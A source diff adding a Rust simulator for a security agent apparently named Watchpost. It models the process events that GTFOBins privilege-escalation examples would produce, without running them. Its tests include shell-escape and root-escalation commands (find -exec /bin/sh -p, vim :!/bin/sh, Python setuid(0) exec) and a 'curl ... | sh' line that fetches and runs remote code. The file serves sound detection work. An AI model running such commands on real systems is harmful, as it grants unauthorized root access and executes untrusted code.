@@ -1,0 +1,632 @@
+//! Turns a command example (a GTFOBins entry) into the process events Watchpost's agent
+//! would record if a user ran it from a login shell: every program started, with its
+//! parent, its user ids and capabilities; for an interactive program, the shell it
+//! spawns when told to (`!/bin/sh` in `less`), with that program as the parent.
+//!
+//! It is a model, not an emulator: programs are not run. What a program does with its
+//! arguments is read off the text: a shell named in its arguments, environment, input
+//! or in a file the example wrote is a shell the program starts. Interpreters that
+//! `exec` a shell are replaced by it (same process, the interpreter as its previous
+//! image), as the kernel would do.
+
+use super::shell::{self, SimpleCommand};
+use regex::Regex;
+use std::collections::HashMap;
+use std::sync::LazyLock;
+use watchpost_core::Event;
+use watchpost_host::ProcessInfo;
+use watchpost_host::users::UserNames;
+
+/// How the example's program is run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Context {
+    /// By an ordinary user.
+    Unprivileged,
+    /// Through `sudo`.
+    Sudo,
+    /// As a set-user-id-root program run by an ordinary user.
+    Suid,
+    /// With file capabilities (`cap_setuid`, ...) run by an ordinary user.
+    Capabilities(u64),
+}
+
+/// The ordinary user's uid.
+const USER: u32 = 1000;
+/// Nesting of scripts in scripts that is followed.
+const MAX_DEPTH: usize = 4;
+/// Processes one example may start.
+const MAX_PROCESSES: usize = 64;
+
+const SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "tcsh", "csh", "fish", "busybox",
+];
+
+/// Shell builtins: they start no process.
+const BUILTINS: &[&str] = &[
+    "echo", "printf", "export", "cd", "read", "set", "unset", "history", "exit", "return", "shift",
+    "source", ".", "trap", "ulimit", "umask", "wait", "true", "false", "test", "[", "[[", "local",
+    "declare", "alias", "type", "hash", "let", ":", "break", "continue", "reset",
+];
+
+/// Interpreters whose `exec` replaces the process rather than starting a child.
+const EXEC_REPLACES: &[&str] = &[
+    "perl", "ruby", "python", "python2", "python3", "irb", "jruby",
+];
+
+/// A shell named in free text, with the options that follow it.
+static SHELL_IN_TEXT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:^|[^\w/.\-])((?:ba|da|z|k|a|mk|tc|c)?sh)\b((?:[ \t]+-[pilsE]+\b)*)(?:[ \t]+-c[ \t]+(['"]?)([^'"\n]*))?|(/(?:usr/(?:local/)?)?bin/(?:ba|da|z|k|a|mk|tc|c)?sh)\b((?:[ \t]+-[pilsE]+\b)*)(?:[ \t]+-c[ \t]+(['"]?)([^'"\n]*))?|(?:^|[\s'"]):sh(?:ell)?\b"#,
+    )
+    .expect("valid regex")
+});
+
+/// Text just before a shell that means the program execs it in its own place.
+static EXEC_BEFORE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:os\.exec\w*\(\s*|(?:^|[\s;{(])exec\s*\(?\s*)["']?$"#).expect("valid regex")
+});
+
+/// A program giving itself root's uid: `setuid(0)` in its code, `--uid=0`.
+static SETUID_ROOT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"setuid\(\s*0\s*\)|--uid=0|Sys\.setuid\(0\)").expect("valid regex")
+});
+
+/// One simulated process.
+#[derive(Debug, Clone)]
+struct Sim {
+    info: ProcessInfo,
+    /// Index of the process this one replaced by exec, if any.
+    previous: Option<usize>,
+}
+
+/// The model's state for one example.
+struct Run<'a> {
+    program: &'a str,
+    context: &'a Context,
+    processes: Vec<Sim>,
+    files: HashMap<String, String>,
+    next_pid: i32,
+}
+
+/// The events of running `code`, an example for `program`, in `context`.
+pub fn simulate(program: &str, code: &str, context: &Context) -> Vec<Event> {
+    let mut run = Run {
+        program,
+        context,
+        processes: Vec::new(),
+        files: HashMap::new(),
+        next_pid: 1000,
+    };
+    // A user logged in over SSH: sshd (root) → the user's login shell.
+    let sshd = run.add(None, "/usr/sbin/sshd", &["sshd: alice [priv]"], 0, 0, 0);
+    let login = run.add(Some(sshd), "/bin/bash", &["-bash"], USER, USER, 0);
+    let setup = run.processes.len();
+    run.script(code, login, 0);
+    run.events(setup)
+}
+
+impl Run<'_> {
+    fn add(
+        &mut self,
+        parent: Option<usize>,
+        image: &str,
+        argv: &[&str],
+        uid: u32,
+        euid: u32,
+        caps: u64,
+    ) -> usize {
+        self.next_pid += 1;
+        let ppid = parent.map(|p| self.processes[p].info.pid);
+        self.processes.push(Sim {
+            info: ProcessInfo {
+                pid: self.next_pid,
+                ppid,
+                executable: Some(image.to_string()),
+                argv: argv.iter().map(|a| a.to_string()).collect(),
+                uid: Some(uid),
+                euid: Some(euid),
+                cap_effective: caps,
+                comm: Some(basename(image).chars().take(15).collect()),
+                ..ProcessInfo::default()
+            },
+            previous: None,
+        });
+        self.processes.len() - 1
+    }
+
+    fn ids(&self, p: usize) -> (u32, u32, u64) {
+        let info = &self.processes[p].info;
+        (
+            info.uid.unwrap_or(USER),
+            info.euid.unwrap_or(USER),
+            info.cap_effective,
+        )
+    }
+
+    /// Runs `script` in the shell process `shell`.
+    fn script(&mut self, script: &str, shell: usize, depth: usize) {
+        if depth > MAX_DEPTH {
+            return;
+        }
+        let commands = shell::parse(script);
+        // Once the example's program runs and later lines follow, those lines are typed
+        // into it: into a shell they are commands, into anything else they are input.
+        let mut interactive: Option<(usize, usize)> = None;
+        let mut previous_output: Option<String> = None;
+        for command in &commands {
+            if self.processes.len() >= MAX_PROCESSES {
+                return;
+            }
+            if let Some((program, line)) = interactive
+                && command.line > line
+            {
+                let text = command_text(command);
+                if is_shell(self.image_name(program)) {
+                    self.script(&text, program, depth + 1);
+                } else {
+                    self.spawn_named_shells(program, &text);
+                }
+                continue;
+            }
+            let stdin = if command.piped {
+                previous_output.take()
+            } else {
+                None
+            };
+            let (output, program) = self.command(command, shell, depth, stdin);
+            previous_output = output;
+            if let Some(program) = program
+                && interactive.is_none()
+            {
+                interactive = Some((program, command.line));
+            }
+        }
+    }
+
+    /// Runs one simple command from `shell`. Returns the text it writes to standard
+    /// output when that is plain (`echo`, `printf`: what a pipe passes on), and the
+    /// process if it ran the example's program.
+    fn command(
+        &mut self,
+        command: &SimpleCommand,
+        shell: usize,
+        depth: usize,
+        stdin: Option<String>,
+    ) -> (Option<String>, Option<usize>) {
+        for substitution in &command.substitutions {
+            self.script(substitution, shell, depth + 1);
+        }
+        let Some(first) = command.words.first() else {
+            return (None, None);
+        };
+        let name = basename(first);
+        let args = &command.words[1..];
+        let stdin = stdin.or_else(|| command.stdin_text.clone());
+        match name {
+            "echo" | "printf" => {
+                let text = args
+                    .iter()
+                    .filter(|a| !a.starts_with('-'))
+                    .cloned()
+                    .collect::<Vec<_>>()
+                    .join(" ");
+                for file in &command.writes {
+                    self.files.insert(file.clone(), text.clone());
+                }
+                return (Some(text), None);
+            }
+            "exec" if !args.is_empty() => {
+                let replaced = SimpleCommand {
+                    words: args.to_vec(),
+                    ..command.clone()
+                };
+                return self.exec_in_place(&replaced, shell, depth, stdin);
+            }
+            "eval" => {
+                self.script(&args.join(" "), shell, depth + 1);
+                return (None, None);
+            }
+            _ if BUILTINS.contains(&name) => return (None, None),
+            _ => {}
+        }
+        let (uid, _, _) = self.ids(shell);
+        let mut parent = shell;
+        let mut words: &[String] = &command.words;
+        let program = self.program;
+        let runs_program = |words: &[String]| {
+            words
+                .first()
+                .is_some_and(|w| is_program(basename(w), program))
+        };
+        // `sudo` as written, or added because the example is run through sudo.
+        let explicit_sudo = name == "sudo";
+        if explicit_sudo || (*self.context == Context::Sudo && runs_program(words)) {
+            let argv: Vec<&str> = if explicit_sudo {
+                words.iter().map(String::as_str).collect()
+            } else {
+                std::iter::once("sudo")
+                    .chain(words.iter().map(String::as_str))
+                    .collect()
+            };
+            parent = self.add(Some(shell), "/usr/bin/sudo", &argv, uid, 0, 0);
+            if explicit_sudo {
+                words = strip_sudo_options(&words[1..]);
+            }
+            if words.is_empty() {
+                return (None, None);
+            }
+        }
+        let is_program = runs_program(words);
+        let (mut uid, mut euid, mut caps) = self.ids(parent);
+        if parent != shell {
+            (uid, euid) = (0, 0);
+        }
+        if is_program {
+            match self.context {
+                Context::Suid => euid = 0,
+                Context::Capabilities(mask) => caps = *mask,
+                _ => {}
+            }
+        }
+        let image = resolve(&words[0]);
+        let argv: Vec<&str> = words.iter().map(String::as_str).collect();
+        let process = self.add(Some(parent), &image, &argv, uid, euid, caps);
+        for file in &command.writes {
+            if let Some(text) = &stdin {
+                self.files.insert(file.clone(), text.clone());
+            }
+        }
+        self.follow(process, command, stdin.as_deref(), depth);
+        (None, is_program.then_some(process))
+    }
+
+    /// The script of `sh -c SCRIPT`. A script of one simple command is exec'd in the
+    /// shell's place, as bash and dash do; a longer one runs command by command.
+    fn c_script(&mut self, script: &str, shell: usize, depth: usize) {
+        let commands = shell::parse(script);
+        match commands.as_slice() {
+            [only]
+                if only.substitutions.is_empty()
+                    && !only.words.is_empty()
+                    && !BUILTINS.contains(&basename(&only.words[0])) =>
+            {
+                self.exec_in_place(only, shell, depth, only.stdin_text.clone());
+            }
+            _ => self.script(script, shell, depth),
+        }
+    }
+
+    /// `exec COMMAND` in a shell: the command replaces the shell process.
+    fn exec_in_place(
+        &mut self,
+        command: &SimpleCommand,
+        shell: usize,
+        depth: usize,
+        stdin: Option<String>,
+    ) -> (Option<String>, Option<usize>) {
+        let image = resolve(&command.words[0]);
+        let argv: Vec<&str> = command.words.iter().map(String::as_str).collect();
+        let process = self.replace(shell, &image, &argv);
+        self.follow(process, command, stdin.as_deref(), depth);
+        let is_program = is_program(basename(&command.words[0]), self.program);
+        (None, is_program.then_some(process))
+    }
+
+    /// What a started process does in turn: a shell runs its script; any other program
+    /// starts the shells its arguments, environment, input and files name.
+    fn follow(
+        &mut self,
+        process: usize,
+        command: &SimpleCommand,
+        stdin: Option<&str>,
+        depth: usize,
+    ) {
+        let words = &command.words;
+        let name = basename(&words[0]).to_string();
+        // `busybox APPLET ...` is the applet.
+        let applet = if name == "busybox" {
+            words.get(1).map(String::as_str).unwrap_or("")
+        } else {
+            name.as_str()
+        };
+        if is_shell(applet) {
+            if let Some(at) = words
+                .iter()
+                .position(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c'))
+            {
+                if let Some(script) = words.get(at + 1) {
+                    self.c_script(&script.clone(), process, depth + 1);
+                }
+                return;
+            }
+            // `sh FILE`: a script the example wrote.
+            if let Some(text) = words[1..].iter().find_map(|w| self.files.get(w).cloned()) {
+                self.script(&text, process, depth + 1);
+                return;
+            }
+            if let Some(text) = stdin {
+                self.script(text, process, depth + 1);
+            }
+            return;
+        }
+        let mut texts: Vec<String> = vec![words[1..].join(" ")];
+        texts.extend(command.assignments.iter().map(|(_, v)| v.clone()));
+        texts.extend(stdin.map(str::to_string));
+        texts.extend(self.files.values().cloned());
+        if is_program(basename(&words[0]), self.program)
+            || texts.iter().any(|t| SETUID_ROOT.is_match(t))
+        {
+            for text in texts {
+                self.spawn_named_shells(process, &text);
+            }
+        }
+    }
+
+    /// Starts, from `program`, every shell `text` names.
+    fn spawn_named_shells(&mut self, program: usize, text: &str) {
+        let interpreter = EXEC_REPLACES.contains(&self.image_name(program));
+        let gains_root = SETUID_ROOT.is_match(text)
+            || self.processes[program]
+                .info
+                .argv
+                .iter()
+                .any(|a| SETUID_ROOT.is_match(a));
+        let mut seen = Vec::new();
+        for found in SHELL_IN_TEXT.captures_iter(text) {
+            let Some(whole) = found.get(0) else { continue };
+            // A bare name, a path, or an editor's `:shell` (which runs the user's shell).
+            let (path, flags, script) = match (found.get(1), found.get(5)) {
+                (Some(name), _) => (name.as_str(), found.get(2), found.get(4)),
+                (None, Some(path)) => (path.as_str(), found.get(6), found.get(8)),
+                (None, None) => ("/bin/sh", None, None),
+            };
+            let mut argv = vec![path.to_string()];
+            let flags = flags.map_or("", |m| m.as_str());
+            argv.extend(flags.split_whitespace().map(str::to_string));
+            if let Some(script) = script {
+                argv.push("-c".into());
+                argv.push(script.as_str().trim().to_string());
+            }
+            if seen.contains(&argv) || self.processes.len() >= MAX_PROCESSES {
+                continue;
+            }
+            seen.push(argv.clone());
+            let image = resolve(path);
+            let argv_refs: Vec<&str> = argv.iter().map(String::as_str).collect();
+            let before = &text[..whole.start()
+                + (whole.as_str().len()
+                    - whole
+                        .as_str()
+                        .trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && c != '/')
+                        .len())];
+            let child = if interpreter && EXEC_BEFORE.is_match(before) {
+                self.replace(program, &image, &argv_refs)
+            } else {
+                let (uid, euid, caps) = self.ids(program);
+                self.add(Some(program), &image, &argv_refs, uid, euid, caps)
+            };
+            let can_setuid = self.processes[program].info.cap_effective & setuid_cap() != 0;
+            let info = &mut self.processes[child].info;
+            if gains_root && (info.euid == Some(0) || can_setuid) {
+                info.uid = Some(0);
+                info.euid = Some(0);
+            } else if !flags.contains('p') && info.euid != info.uid {
+                // Shells drop a set-user-id privilege unless started with -p.
+                info.euid = info.uid;
+            }
+            if argv.len() > 2 && argv[argv.len() - 2] == "-c" {
+                let script = argv[argv.len() - 1].clone();
+                self.c_script(&script, child, MAX_DEPTH - 1);
+            }
+        }
+    }
+
+    /// `image` replaces process `p` by exec: same pid, same parent, same ids.
+    fn replace(&mut self, p: usize, image: &str, argv: &[&str]) -> usize {
+        let old = self.processes[p].info.clone();
+        self.processes.push(Sim {
+            info: ProcessInfo {
+                executable: Some(image.to_string()),
+                argv: argv.iter().map(|a| a.to_string()).collect(),
+                comm: Some(basename(image).chars().take(15).collect()),
+                ..old
+            },
+            previous: Some(p),
+        });
+        self.processes.len() - 1
+    }
+
+    fn image_name(&self, p: usize) -> &str {
+        self.processes[p]
+            .info
+            .executable
+            .as_deref()
+            .map(basename)
+            .unwrap_or("")
+    }
+
+    /// The exec events of every process from index `from` on, as the agent builds them.
+    fn events(&self, from: usize) -> Vec<Event> {
+        let mut users = UserNames::from_file("/dev/null");
+        let mut tree = watchpost_host::ProcessTree::default();
+        let mut events = Vec::new();
+        for (i, sim) in self.processes.iter().enumerate() {
+            let previous = sim.previous.map(|p| self.processes[p].info.clone());
+            let ancestry: Vec<ProcessInfo> = {
+                tree.insert(sim.info.clone());
+                tree.ancestry(sim.info.pid, 6)
+                    .into_iter()
+                    .cloned()
+                    .collect()
+            };
+            if i >= from {
+                events.push(watchpost_host::exec_event(
+                    &sim.info,
+                    &ancestry,
+                    previous.as_ref(),
+                    &mut users,
+                ));
+            }
+        }
+        events
+    }
+}
+
+fn setuid_cap() -> u64 {
+    watchpost_host::capabilities::bit("cap_setuid").unwrap_or(0)
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Whether the command `name` runs the example's `program`: the same name, or a variant
+/// of it (`octave-cli` for `octave`, `mosh` for `mosh-server`).
+fn is_program(name: &str, program: &str) -> bool {
+    let variant = |long: &str, short: &str| {
+        long.strip_prefix(short).is_some_and(|rest| {
+            rest.starts_with('-') || rest.chars().all(|c| c.is_ascii_digit() || c == '.')
+        })
+    };
+    name == program || variant(name, program) || variant(program, name)
+}
+
+fn is_shell(name: &str) -> bool {
+    SHELLS.contains(&name) && name != "busybox"
+}
+
+/// Where a command name is found: as written when it is a path, else in `/usr/bin`.
+fn resolve(word: &str) -> String {
+    if word.starts_with('/') {
+        word.to_string()
+    } else {
+        format!("/usr/bin/{}", basename(word))
+    }
+}
+
+/// The command after `sudo`'s own options (`-u user`, `-E`, ...).
+fn strip_sudo_options(words: &[String]) -> &[String] {
+    let mut at = 0;
+    while let Some(word) = words.get(at) {
+        if !word.starts_with('-') {
+            break;
+        }
+        at += if matches!(
+            word.as_str(),
+            "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U"
+        ) {
+            2
+        } else {
+            1
+        };
+    }
+    words.get(at..).unwrap_or_default()
+}
+
+/// A command as one line of text, as typed.
+fn command_text(command: &SimpleCommand) -> String {
+    command
+        .assignments
+        .iter()
+        .map(|(k, v)| format!("{k}={v}"))
+        .chain(command.words.iter().cloned())
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(events: &[Event]) -> Vec<(String, String, Option<String>)> {
+        events
+            .iter()
+            .map(|e| {
+                let p = e.process.as_ref().unwrap();
+                (
+                    p.command_line.clone().unwrap_or_default(),
+                    p.parent
+                        .as_ref()
+                        .and_then(|pp| pp.executable.clone())
+                        .unwrap_or_default(),
+                    p.previous.as_ref().and_then(|pp| pp.executable.clone()),
+                )
+            })
+            .collect()
+    }
+
+    #[test]
+    fn an_interactive_escape_spawns_the_shell_from_the_program() {
+        let events = simulate("less", "less /etc/hosts\n!/bin/sh", &Context::Unprivileged);
+        assert_eq!(
+            commands(&events),
+            [
+                ("less /etc/hosts".into(), "/bin/bash".into(), None),
+                ("/bin/sh".into(), "/usr/bin/less".into(), None),
+            ]
+        );
+    }
+
+    #[test]
+    fn sudo_and_suid_set_the_ids() {
+        let events = simulate("find", "find . -exec /bin/sh -p \\; -quit", &Context::Suid);
+        let find = events[0].process.as_ref().unwrap();
+        assert_eq!(find.real_user.as_ref().unwrap().id.as_deref(), Some("1000"));
+        assert_eq!(find.user.as_ref().unwrap().id.as_deref(), Some("0"));
+        let shell = events[1].process.as_ref().unwrap();
+        assert_eq!(shell.command_line.as_deref(), Some("/bin/sh -p"));
+        assert_eq!(shell.user.as_ref().unwrap().id.as_deref(), Some("0"));
+
+        let events = simulate("vim", "vim -c ':!/bin/sh'", &Context::Sudo);
+        let c = commands(&events);
+        assert_eq!(c[0].0, "sudo vim -c :!/bin/sh");
+        assert_eq!(
+            c[1],
+            ("vim -c :!/bin/sh".into(), "/usr/bin/sudo".into(), None)
+        );
+        assert_eq!(c[2].1, "/usr/bin/vim");
+        assert_eq!(
+            events[2]
+                .process
+                .as_ref()
+                .unwrap()
+                .real_user
+                .as_ref()
+                .unwrap()
+                .id
+                .as_deref(),
+            Some("0")
+        );
+    }
+
+    #[test]
+    fn interpreters_that_exec_are_replaced() {
+        let events = simulate(
+            "python",
+            "python -c 'import os; os.setuid(0); os.execl(\"/bin/sh\", \"sh\")'",
+            &Context::Capabilities(setuid_cap()),
+        );
+        let c = commands(&events);
+        assert_eq!(c[1].0, "/bin/sh");
+        assert_eq!(c[1].1, "/bin/bash", "the parent is the login shell");
+        assert_eq!(c[1].2.as_deref(), Some("/usr/bin/python"));
+        let shell = events[1].process.as_ref().unwrap();
+        assert_eq!(shell.real_user.as_ref().unwrap().id.as_deref(), Some("0"));
+    }
+
+    #[test]
+    fn shell_scripts_run_their_commands() {
+        let events = simulate(
+            "bash",
+            "bash -c 'curl -s http://h/x | sh'",
+            &Context::Unprivileged,
+        );
+        let c = commands(&events);
+        assert_eq!(c.len(), 3);
+        assert_eq!(
+            c[1],
+            ("curl -s http://h/x".into(), "/usr/bin/bash".into(), None)
+        );
+        assert_eq!(c[2].0, "sh");
+    }
+}
